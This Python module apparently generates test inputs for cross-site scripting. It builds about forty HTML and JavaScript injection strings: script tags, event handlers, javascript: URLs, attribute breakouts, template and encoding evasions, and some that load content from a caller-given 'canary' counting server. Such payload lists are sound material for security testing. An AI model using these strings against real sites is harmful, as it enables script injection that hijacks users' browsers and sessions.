"""What a stranger writes where a name or a value is expected, so that a page that shows it does something."""

from __future__ import annotations

ACT = "alert(1)"


def payloads(canary: str) -> list[str]:
    """Forty texts, each of which acts in a page that takes it for markup.

    Args:
        canary: address of a server that counts who comes.
    """
    encoded = "".join(f"&#{ord(c)};" for c in ACT)
    escaped = "".join(f"\\x{ord(c):02x}" for c in ACT)
    return [
        f"<script>{ACT}</script>",
        f"<ScRiPt>{ACT}</sCrIpT >",
        f"<script src={canary}/a.js></script>",
        f"</script><script>{ACT}</script>",
        f"</title></style></textarea><script>{ACT}</script>",
        f"<<script>{ACT}//<</script>",
        f"<scr<script>ipt>{ACT}</scr</script>ipt>",
        f"<img src=x onerror={ACT}>",
        f"<img/src='{canary}/b.png'/onload={ACT}>",
        f"<IMG SRC=x OnErRoR='{encoded}'>",
        f"<svg onload={ACT}>",
        f"<svg><script>{ACT}</script></svg>",
        f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={ACT}></svg>#x'></use></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
        f"<body onload={ACT}>",
        f"<details open ontoggle={ACT}><summary>more</summary></details>",
        f"<input autofocus onfocus={ACT}>",
        f"<video src=x onerror={ACT}></video>",
        f"<audio src={canary}/c.wav autoplay></audio>",
        f"<marquee onstart={ACT}>x</marquee>",
        f"<iframe src=javascript:{ACT}></iframe>",
        f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
        f"<iframe src={canary}/d.html></iframe>",
        f"<object data='data:text/html,<script>{ACT}</script>'></object>",
        f"<embed src='{canary}/e.swf'>",
        f"<meta http-equiv=refresh content='0;url={canary}/f'>",
        f"<base href={canary}/>",
        f"<link rel=stylesheet href={canary}/g.css>",
        f"<style>@import '{canary}/h.css'; body {{ background: url({canary}/i.png) }}</style>",
        f"<a href=javascript:{ACT}>read on</a>",
        f"<form action={canary}/j><button formaction=javascript:{ACT}>send</button></form>",
        f'" onmouseover="{ACT}" autofocus onfocus="{ACT}" x="',
        f"' onmouseover='{ACT}' autofocus onfocus='{ACT}' x='",
        f"x onclick={ACT} style=background:url({canary}/k.png)",
        f"--><img src=x onerror={ACT}><!--",
        f"]]><img src=x onerror={ACT}>",
        f"{{{{constructor.constructor('{ACT}')()}}}} ${{{ACT}}} $column {{%print({ACT})%}} [x](javascript:{ACT})",
        f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e \u2028 \u202e<img src=x onerror={ACT}>",
        f"\\u003cimg src=x onerror={ACT}\\u003e {escaped} &lt;img src=x onerror={ACT}&gt; ${ACT} $$",
    ]
